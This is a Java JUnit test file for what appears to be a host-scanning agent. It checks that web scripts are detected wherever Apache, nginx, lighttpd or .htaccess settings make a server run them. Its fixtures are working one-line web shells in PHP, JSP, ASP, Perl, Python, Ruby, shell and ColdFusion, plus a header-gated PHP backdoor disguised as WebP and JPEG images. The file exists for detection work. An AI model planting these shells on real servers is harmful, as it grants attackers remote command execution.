package bzh.vigie.agent.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Scripts are found by what a server runs: its configuration, a folder's own settings, cgi-bin anywhere, usual endings. */
final class WebScriptsServedTest {
    private static final String PHP = "<?php system($_REQUEST['c']); ?>\n";
    private static final String JSP = "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n";
    private static final String PERL = "#!/usr/bin/perl\nuse CGI;\nmy $c = CGI->new->param('c');\nprint `$c`;\n";
    private static final String PYTHON = """
        #!/usr/bin/python3
        import cgi, os
        f = cgi.FieldStorage()
        what = f.getvalue('c')
        print(os.popen(what).read())
        """;
    private static final String SHELL = "#!/bin/sh\neval \"$QUERY_STRING\"\n";

    @TempDir
    Path root;

    private List<String> found() {
        return List.copyOf(new TreeSet<>(Scanned.linux(root, "linux.web.script"::equals).items().stream()
                .map(item -> item.source())
                .toList()));
    }

    @Test
    void endingsOfUsualInterpretersAreRead() throws IOException {
        for (String ending : List.of("php", "PHP", "phtml", "phar", "php5", "php7", "inc", "php.jpg")) {
            Trees.write(root, "/var/www/html/a/x." + ending, PHP);
        }
        for (String ending : List.of("jsp", "jspx", "jspf")) {
            Trees.write(root, "/opt/shop/webapps/x." + ending, JSP);
        }
        for (String ending : List.of("asp", "aspx", "ashx", "asmx", "cshtml")) {
            Trees.write(root, "/srv/www/site/x." + ending, "<% eval(Request.Form(\"c\")) %>");
        }
        Trees.write(root, "/srv/www/site/x.cfm", "<cfexecute name=\"#url.c#\"></cfexecute>");
        Trees.write(root, "/srv/www/site/x.pl", PERL);
        Trees.write(root, "/srv/www/site/x.py", PYTHON);
        Trees.write(root, "/srv/www/site/x.rb", "#!/usr/bin/ruby\ncgi = CGI.new\nc = cgi['c']\nputs `#{c}`\n");
        Trees.write(root, "/var/lib/tomcat10/webapps/x.war", "PK");
        assertEquals(21, found().size(), () -> "" + found());
    }

    /** A drill by others: by the digest that guards it, a page in a picture (RIFF, as WebP begins) is known as one by itself. */
    @Test
    void aPageInAPictureTellsTheSameConstants() throws IOException {
        String page =
                "<?php $h=getallheaders();if(hash('sha1',$h['If-Range'])==='3a1f2c9d0b7e4f5a68c19d2e3b40f7a1c5d6e8f9')"
                        + "{system($h['Range']);die;}";
        Trees.write(root, "/var/www/html/a.php", page);
        Trees.write(root, "/var/www/html/b.php", "RIFF$0\0\0WEBPVP8 " + page);
        List<List<String>> observables = Scanned.linux(root, "linux.web.script"::equals).items().stream()
                .map(item -> item.observables())
                .toList();
        assertEquals(2, observables.size());
        assertEquals(observables.getFirst(), observables.getLast());
        assertNotEquals(List.of(), observables.getFirst());
    }

    /** Zimbra's own server of Java, in which Volexity (2022) found pages (Zimbra wiki, Jetty). */
    @Test
    void aJavaProgramsPagesInAFolderOfAProductAreRead() throws IOException {
        Trees.write(root, "/opt/zimbra/jetty_base/webapps/zimbra/public/x.jsp", JSP);
        Trees.write(root, "/opt/zimbra/jetty-distribution-9.4.57/webapps/zimbra/x.jsp", JSP);
        Trees.write(root, "/opt/town/tomcat/webapps/ROOT/x.jsp", JSP);
        Trees.write(root, "/opt/town/tomcat/lib/x.jsp", JSP);
        assertEquals(
                List.of(
                        "/opt/town/tomcat/webapps/ROOT/x.jsp",
                        "/opt/zimbra/jetty-distribution-9.4.57/webapps/zimbra/x.jsp",
                        "/opt/zimbra/jetty_base/webapps/zimbra/public/x.jsp"),
                found());
    }

    @Test
    void aFolderOfProgramsAnywhereBelowASiteIsRead() throws IOException {
        Trees.write(root, "/srv/www/town/app/cgi-bin/status", SHELL);
        Trees.write(root, "/var/www/html/old/CGI-BIN/tool", PERL);
        Trees.write(root, "/srv/www/town/app/bin/status", SHELL);
        assertEquals(List.of("/srv/www/town/app/cgi-bin/status", "/var/www/html/old/CGI-BIN/tool"), found());
    }

    @Test
    void whatApacheGivesAwayIsRead() throws IOException {
        Trees.write(root, "/etc/apache2/mods-enabled/x.conf", """
            AddHandler application/x-httpd-php .tpl
            <FilesMatch ".+\\.th(?:em|ing)$">
                SetHandler "proxy:unix:/run/php.sock|fcgi://localhost"
            </FilesMatch>
            <Directory "/srv/www/tools">
                Options +ExecCGI
                SetHandler cgi-script
            </Directory>
            ScriptAlias /run/ /opt/town/programs/
            AddHandler type-map .var
            """);
        Trees.write(root, "/var/www/html/x.tpl", PHP);
        Trees.write(root, "/var/www/html/x.them", PHP);
        Trees.write(root, "/srv/www/tools/report", PERL);
        Trees.write(root, "/opt/town/programs/report", PYTHON);
        List<String> given = List.of(
                "/opt/town/programs/report", "/srv/www/tools/report", "/var/www/html/x.them", "/var/www/html/x.tpl");
        // Neighbours that nothing runs.
        Trees.write(root, "/var/www/html/x.var", PHP);
        Trees.write(root, "/var/www/html/x.txt", PHP);
        Trees.write(root, "/srv/www/other/report", PERL);
        assertEquals(given, found());
    }

    @Test
    void whatAFolderSaysOfItselfHoldsBelowIt() throws IOException {
        Trees.write(root, "/var/www/html/pictures/.htaccess", "AddType application/x-httpd-php .jpg\n");
        Trees.write(root, "/var/www/html/pictures/2026/x.jpg", "JFIF" + PHP);
        Trees.write(root, "/var/www/html/files/.htaccess", "SetHandler application/x-httpd-php\n");
        Trees.write(root, "/var/www/html/files/readme", PHP);
        Trees.write(root, "/var/www/html/beside/x.jpg", "JFIF" + PHP);
        assertEquals(List.of("/var/www/html/files/readme", "/var/www/html/pictures/2026/x.jpg"), found());
    }

    @Test
    void whatNginxPassesOnIsRead() throws IOException {
        Trees.write(root, "/etc/nginx/sites-enabled/town", """
            server {
                root /data/town/public; # the site
                location ~ \\.(php|ctp)$ { include snippets/fastcgi-php.conf; fastcgi_pass unix:/run/php.sock; }
                location /tools/ { fastcgi_pass unix:/run/fcgiwrap.socket; }
                location /front { fastcgi_param SCRIPT_FILENAME /data/front/entry.bin; fastcgi_pass 127.0.0.1:9000; }
                location /static/ { expires 30d; }
            }
            """);
        Trees.write(root, "/data/town/public/a/x.ctp", PHP);
        Trees.write(root, "/data/town/public/x.php", PHP);
        Trees.write(root, "/data/town/public/tools/report", PERL);
        Trees.write(root, "/data/front/entry.bin", PHP);
        Trees.write(root, "/data/town/public/static/report", PERL);
        Trees.write(root, "/data/town/public/static/x.html", PHP);
        assertEquals(
                List.of(
                        "/data/front/entry.bin",
                        "/data/town/public/a/x.ctp",
                        "/data/town/public/tools/report",
                        "/data/town/public/x.php"),
                found());
    }

    @Test
    void whatLighttpdAssignsIsRead() throws IOException {
        Trees.write(root, "/etc/lighttpd/lighttpd.conf", "server.document-root = \"/data/lt\"\n");
        Trees.write(root, "/etc/lighttpd/conf-enabled/10-cgi.conf", """
            # cgi.assign = ( ".off" => "/usr/bin/perl" )
            server.document-root = "/data/lt"
            cgi.assign = (
                ".tool" => "/usr/bin/perl",
                ".bin"  => ""
            )
            fastcgi.server += ( ".view" => (( "socket" => "/run/php.sock", "bin-path" => "/usr/bin/php-cgi" )) )
            """);
        Trees.write(root, "/data/lt/x.tool", PERL);
        Trees.write(root, "/data/lt/x.view", PHP);
        Trees.write(root, "/data/lt/x.off", PERL);
        assertEquals(List.of("/data/lt/x.tool", "/data/lt/x.view"), found());
    }

    /** Programs that read requests and run others, but not what the request says. */
    @Test
    void anOrdinaryProgramBehindAServerIsNoItem() throws IOException {
        Trees.write(root, "/usr/lib/cgi-bin/graph.cgi", """
            #!/usr/bin/perl
            my $q = CGI->new; my $period = $q->param('period');
            die unless $period =~ /^(day|week)$/;
            my $host = `hostname`;
            system("/usr/bin/rrdtool", "graph", "/var/cache/g.png");
            print $q->header('image/png');
            """);
        Trees.write(root, "/usr/lib/cgi-bin/state", "#!/bin/sh\necho Content-Type: text/plain\necho\nuptime\n");
        Trees.write(root, "/srv/www/site/app.py", "import os\nfrom flask import request\nname = request.args['n']\n");
        assertEquals(List.of(), found());
    }
}
